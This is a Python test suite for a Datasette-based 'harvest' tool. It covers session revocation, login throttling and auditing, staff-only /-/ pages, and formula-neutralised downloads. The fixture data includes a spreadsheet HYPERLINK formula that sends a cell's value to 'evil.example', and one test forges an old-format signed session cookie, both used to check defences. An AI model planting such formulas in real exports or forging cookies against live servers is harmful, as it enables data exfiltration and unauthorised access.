"""Logins to the published Datasette: sessions that can be taken away, throttled failures,
staff-only ``/-/`` pages and formula-safe downloads.

Every server here is a real Datasette started by `harvest serve` (or `serve --funders`)
as a subprocess; users are changed with the real `harvest users` commands while it runs.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import sqlite3
import stat
import sys
import time
import zlib
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import httpx
import pytest
import yaml
from conftest import free_port, login, post_login, query, serving, write_csv
from itsdangerous import URLSafeSerializer
from openpyxl import load_workbook
from typer.testing import CliRunner

from harvest.cli import app
from harvest.config import load_config
from harvest.publish.funders import publish_funders
from harvest.publish.site import PLUGINS_DIR
from harvest.publish.users import Users, users_path
from harvest.secrets import TokenStore
from harvest.sync import sync

HARVEST = [sys.executable, "-m", "harvest.cli"]
PASSWORD = "a-long-password-1"
FUNDERS = ("fund1", "fund2", "fund3", "fund4")
STAFF = ("staff1", "staff2", "staff3", "staff4")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SIGNUPS = [
    ["First name", "Surname", "Email", "Phone", "Postcode", "Date of birth", "Activity", "Score"],
    [FORMULA, "Okafor", "bob@example.org", "07700 900123", "NW1 2AB", "02/03/1961", "+cmd", "-3"],
    ["Ann", "Lee", "ann@example.org", "07700 900124", "M1 5TQ", "1970-05-06", "Lunch club", "5"],
]
# Short limits for the expiry tests: 6 seconds idle, 14.4 seconds in all.
SHORT = {"idle_minutes": 0.1, "absolute_hours": 0.004}
# Pages under /-/ that anyone may open.
OPEN = re.compile(r"^/-/(login|logout|static/.*|static-plugins/.*)$")
KNOWN_PAGES = [
    "/-/metadata.json",
    "/-/databases.json",
    "/-/threads",
    "/-/password-tool",
    "/-/plugins",
    "/-/versions",
    "/-/settings",
    "/-/config",
    "/-/actor",
    "/-/permissions",
    "/-/allow-debug",
    "/-/messages",
    "/-/patterns",
]


def write_yaml(folder: Path, name: str, **extra: object) -> Path:
    data = {
        "organisation": "Test Trust",
        "database": "harvest.db",
        "sources": [{"name": "signups", "type": "file", "options": {"path": "signups.csv"}}],
        **extra,
    }
    path = folder / name
    path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    folder = tmp_path_factory.mktemp("logins")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HARVEST_SECRETS_FILE", str(folder / "secrets.json"))
        write_csv(folder / "signups.csv", SIGNUPS)
        config = load_config(write_yaml(folder, "harvest.yaml"))
        write_yaml(folder, "short.yaml", logins=SHORT)
        assert sync(config).exit_code == 0
        publish_funders(config)
        users = Users(users_path(config.database_path))
        for name in FUNDERS:
            users.add(name, "funder", PASSWORD)
        for name in STAFF:
            users.add(name, "staff", PASSWORD)
        yield folder


@contextmanager
def harvest_serve(project: Path, *args: str, config: str = "harvest.yaml") -> Iterator[str]:
    """`harvest serve` as a subprocess, with the project's own token store."""
    port = free_port()
    command = [*HARVEST, "serve", "--config", str(project / config), "--port", str(port), *args]
    with serving(command, port, {"HARVEST_SECRETS_FILE": str(project / "secrets.json")}) as base:
        yield base


@pytest.fixture(scope="module")
def staff_server(project: Path) -> Iterator[str]:
    with harvest_serve(project) as base:
        yield base


@pytest.fixture(scope="module")
def funder_server(project: Path) -> Iterator[str]:
    with harvest_serve(project, "--funders") as base:
        yield base


@pytest.fixture(scope="module")
def short_server(project: Path) -> Iterator[str]:
    with harvest_serve(project, config="short.yaml") as base:
        yield base


def users_cli(project: Path, *args: str, password: str | None = None) -> None:
    result = CliRunner().invoke(
        app,
        ["users", *args, "--config", str(project / "harvest.yaml")],
        input=None if password is None else password + "\n",
    )
    assert result.exit_code == 0, result.output


def sent_to_login(response: httpx.Response) -> bool:
    return response.status_code == 302 and response.headers["location"] == "/-/login"


# --- sessions that can be taken away ------------------------------------------------------


def test_a_removed_funder_is_logged_out_at_once(
    project: Path, staff_server: str, funder_server: str
) -> None:
    on_funders = login(funder_server, "fund1", PASSWORD)
    on_staff = login(staff_server, "fund1", PASSWORD)
    assert on_funders.get("/funders/coverage.json").status_code == 200
    assert on_staff.get("/funders/coverage.json").status_code == 200
    users_cli(project, "remove", "fund1")
    for client in (on_funders, on_staff):
        response = client.get("/funders/coverage.json")
        assert sent_to_login(response), response.status_code
        assert "ds_actor=;" in response.headers.get("set-cookie", "")  # and the cookie cleared


def test_a_demoted_member_of_staff_can_no_longer_read_names(
    project: Path, staff_server: str
) -> None:
    sql = "/harvest.json?sql=select+given_name,family_name,email,phone+from+records"
    staff = login(staff_server, "staff2", PASSWORD)
    assert staff.get(sql).json()["rows"]
    users_cli(project, "add", "staff2", "--role", "funder", "--replace", "--password-stdin",
              password=PASSWORD)  # fmt: skip
    response = staff.get(sql)
    assert sent_to_login(response) and "Okafor" not in response.text
    again = login(staff_server, "staff2", PASSWORD)  # logging in again: a funder now
    response = again.get(sql)
    assert response.status_code == 403 and "Okafor" not in response.text


def test_a_password_change_ends_every_session(project: Path, staff_server: str) -> None:
    first, second = login(staff_server, "staff3", PASSWORD), login(staff_server, "staff3", PASSWORD)
    assert first.get("/harvest/records.json").status_code == 200
    users_cli(project, "add", "staff3", "--role", "staff", "--replace", "--password-stdin",
              password="another-password-2")  # fmt: skip
    for client in (first, second):
        assert sent_to_login(client.get("/harvest/records.json"))
    assert login(staff_server, "staff3", "another-password-2").get("/harvest").status_code == 200


def test_logging_out_ends_the_session_on_the_server(staff_server: str) -> None:
    staff = login(staff_server, "staff4", PASSWORD)
    copied = httpx.Client(base_url=staff_server, cookies={"ds_actor": staff.cookies["ds_actor"]})
    token = re.search(r'name="csrftoken" value="([^"]+)"', staff.get("/-/logout").text)
    assert token
    assert staff.post("/-/logout", data={"csrftoken": token.group(1)}).status_code == 302
    assert sent_to_login(copied.get("/harvest"))  # a copy of the cookie is no use either


def test_an_actor_cookie_as_issued_before_is_refused(project: Path, staff_server: str) -> None:
    secret = TokenStore(project / "secrets.json").get("datasette_secret")
    assert secret is not None
    old = URLSafeSerializer(secret.get_secret_value(), "actor").dumps(
        {"a": {"id": "staff1", "role": "staff"}}
    )
    sql = "/harvest.json?sql=select+given_name+from+records"
    alone = httpx.Client(base_url=staff_server, cookies={"ds_actor": old})
    assert sent_to_login(alone.get(sql))
    funder = login(staff_server, "fund3", PASSWORD)
    session = funder.cookies["ds_actor"]
    for cookies in (f"ds_actor={session}; ds_actor={old}", f"ds_actor={old}; ds_actor={session}"):
        response = httpx.get(staff_server + sql, headers={"cookie": cookies})
        assert response.status_code in (302, 403) and "Okafor" not in response.text
    two_headers = [("cookie", f"ds_actor={session}"), ("cookie", f"ds_actor={old}")]
    response = httpx.get(staff_server + sql, headers=two_headers)
    assert response.status_code in (302, 403) and "Okafor" not in response.text


def test_a_session_ends_after_the_idle_limit(short_server: str) -> None:
    staff = login(short_server, "staff1", PASSWORD)
    assert staff.get("/harvest").status_code == 200
    time.sleep(SHORT["idle_minutes"] * 60 + 2)
    assert sent_to_login(staff.get("/harvest"))


def test_a_session_ends_after_the_absolute_limit_however_busy(short_server: str) -> None:
    staff = login(short_server, "staff1", PASSWORD)
    deadline = time.monotonic() + SHORT["absolute_hours"] * 3600 + 30
    answers = []
    while time.monotonic() < deadline:  # a request every half second: never idle
        answers.append(staff.get("/harvest").status_code)
        if answers[-1] != 200:
            break
        time.sleep(0.5)
    assert answers[0] == 200 and answers[-1] == 302


def cookie_payload(value: str) -> dict:
    """The data in a signed cookie (itsdangerous: base64 JSON, maybe compressed, then a dot)."""
    data = value.strip('"')
    compressed = data.startswith(".")
    raw = base64.urlsafe_b64decode(data.lstrip(".").split(".")[0] + "==")
    return json.loads(zlib.decompress(raw) if compressed else raw)


def login_response(base: str, name: str, password: str, **headers: str) -> httpx.Response:
    return post_login(httpx.Client(base_url=base, timeout=10), name, password, **headers)


def test_the_cookie_is_http_only_same_site_and_holds_only_a_session_id(
    project: Path, staff_server: str
) -> None:
    response = login_response(staff_server, "staff1", PASSWORD)
    cookie = next(c for c in response.headers.get_list("set-cookie") if c.startswith("ds_actor="))
    flags = [part.strip().lower() for part in cookie.split(";")]
    assert "httponly" in flags and "samesite=lax" in flags and "secure" not in flags
    assert any(f.startswith("max-age=") for f in flags)
    payload = cookie_payload(cookie.split(";")[0].partition("=")[2])
    assert list(payload) == ["s"] and "staff" not in json.dumps(payload)
    files = sorted(project.glob("harvest.sessions.db*"))  # on the server, ids only hashed
    assert [f.name for f in files][:1] == ["harvest.sessions.db"]
    for file in files:  # the -wal and -shm too
        assert stat.S_IMODE(file.stat().st_mode) == 0o600, file.name
        assert payload["s"].encode() not in file.read_bytes()
    # Behind a proxy on this machine that says the visitor came over https: Secure too.
    proxied = login_response(staff_server, "staff1", PASSWORD, **{"X-Forwarded-Proto": "https"})
    cookie = next(c for c in proxied.headers.get_list("set-cookie") if c.startswith("ds_actor="))
    assert "secure" in [part.strip().lower() for part in cookie.split(";")]


def test_failed_logins_are_throttled_and_audited(project: Path, funder_server: str) -> None:
    wrong = [f"wrong-guess-{i}" for i in range(5)]
    for guess in wrong:
        response = login_response(funder_server, "fund2", guess)
        assert response.status_code == 200 and "Wrong name or password" in response.text
    for _ in range(3):  # right, but too soon
        response = login_response(funder_server, "fund2", PASSWORD)
        assert "Too many failed logins" in response.text and "ds_actor" not in response.cookies
    login_response(funder_server, "nobody-here", "whatever-1")
    rows = query(
        project / "harvest.db",
        "SELECT action, user, counts FROM audit_runs WHERE action LIKE 'login%' ORDER BY id",
    )
    failed = [json.loads(c) for a, u, c in rows if a == "login.failed" and u == "fund2"]
    assert [f["for_name"] for f in failed] == [1, 2, 3, 4, 5]
    refused = [json.loads(c)["refused"] for a, u, c in rows if a == "login.refused"]
    assert refused == [1, 2]  # the 1st, 2nd, 4th…: a flood of attempts stays a trickle
    assert ("login.failed", "(unknown name)") in [(a, u) for a, u, _ in rows]
    text = json.dumps(rows)
    assert not any(secret in text for secret in [*wrong, PASSWORD, "nobody-here", "whatever"])


# --- the /-/ pages ------------------------------------------------------------------------


def sample(group: re.Match) -> str:
    """A value for a named part of a route: ``[0-9]+`` → 1, ``xlsx|json`` → xlsx, else a name."""
    return {"[0-9]+": "1"}.get(
        group.group(1), "signups" if "[" in group.group(1) else group.group(1)
    )


def dash_paths() -> list[str]:
    """A path for every /-/ route Datasette 0.65 and its plugins register (read from it)."""
    from datasette.app import Datasette

    routes = Datasette([], plugins_dir=str(PLUGINS_DIR))._routes()
    paths = []
    for regex, _ in routes:
        pattern = regex.pattern.lstrip("^").rstrip("$")
        if not pattern.startswith("/-/"):
            continue
        path = pattern.replace("(?P<path>.*)", "app.css")
        variants = [path.replace(r"(\.(?P<format>json))?", ext) for ext in ("", ".json")]
        # the staff console's routes: a sample value for each part (a source, a person…)
        variants = [re.sub(r"\(\?P<\w+>([^)|]*)[^)]*\)", sample, v) for v in variants]
        variants = [v.replace("\\.", ".") for v in variants]
        for variant in dict.fromkeys(variants):
            assert re.fullmatch(regex, variant), f"no sample path for the route {pattern}"
            paths.append(variant)
    assert set(KNOWN_PAGES) <= set(paths)
    return paths


def test_every_dash_page_is_for_staff_only(staff_server: str, funder_server: str) -> None:
    paths = dash_paths()
    for base, funder_name in ((staff_server, "fund3"), (funder_server, "fund3")):
        anonymous = httpx.Client(base_url=base, timeout=10)
        funder = login(base, funder_name, PASSWORD)
        staff = login(base, "staff1", PASSWORD)
        for path in paths:
            if OPEN.match(path):
                assert not sent_to_login(anonymous.get(path)), path
                assert funder.get(path).status_code != 403, path
                continue
            assert sent_to_login(anonymous.get(path)), (base, path)
            assert funder.get(path).status_code == 403, (base, path)
            response = staff.get(path)
            assert not sent_to_login(response) and "for staff only" not in response.text, path
        for path in KNOWN_PAGES:  # /-/permissions: Datasette keeps it for its root user
            expected = 403 if path == "/-/permissions" else 200
            assert staff.get(path, follow_redirects=True).status_code == expected, (base, path)
        databases = staff.get("/-/databases.json").json()
        assert all("path" in d for d in databases)  # staff still see the server's details


# --- formula-safe downloads -----------------------------------------------------------------


def test_staff_downloads_neutralise_formulas(staff_server: str) -> None:
    staff = login(staff_server, "staff1", PASSWORD)
    for path in (
        "/harvest/records.csv?_size=max",
        "/harvest/records.csv?_stream=on",
        "/harvest/records.csv?_dl=1",
    ):
        response = staff.get(path)
        assert response.status_code == 200, path
        rows = list(csv.DictReader(io.StringIO(response.text)))
        bob = next(r for r in rows if r["family_name"] == "Okafor")
        assert bob["given_name"] == "'" + FORMULA and bob["activity"] == "'+cmd", path
        assert bob["score"] == "-3.0", path  # a negative number stays a number
    sql = "select '=1+1' as f, '-3' as t, -3 as n, '-' as d, '@x' as a, 'a=b' as ok"
    text = staff.get("/harvest.csv", params={"sql": sql}).text
    assert text.splitlines()[1] == "'=1+1,-3,-3,'-,'@x,a=b"
    rows = staff.get("/harvest/records.json?_shape=array").json()
    bob = next(r for r in rows if r["family_name"] == "Okafor")
    assert bob["given_name"] == "'" + FORMULA and bob["score"] == -3.0
    lines = staff.get("/harvest/records.json?_shape=array&_nl=on").text.splitlines()
    assert {"'" + FORMULA, "Ann"} == {json.loads(line)["given_name"] for line in lines}
    arrays = staff.get("/harvest.json", params={"sql": sql}).json()["rows"]
    assert arrays == [["'=1+1", "-3", -3, "'-", "'@x", "a=b"]]
    sheet = load_workbook(io.BytesIO(staff.get("/harvest/records.xlsx").content)).active
    cells = [c for row in sheet.values for c in row]
    assert "'" + FORMULA in cells and FORMULA not in cells


def test_downloads_are_safe_on_the_open_staff_view_too(project: Path, tmp_path: Path) -> None:
    with closing(sqlite3.connect(project / "harvest.db")) as src:
        with closing(sqlite3.connect(tmp_path / "harvest.db")) as copy:
            src.backup(copy)
    write_yaml(tmp_path, "harvest.yaml")  # no users: the staff view for this computer only
    with harvest_serve(tmp_path) as base:
        text = httpx.get(base + "/harvest/records.csv", timeout=10).text
    assert "'" + FORMULA.replace('"', '""') in text and ',"=HYPERLINK' not in text
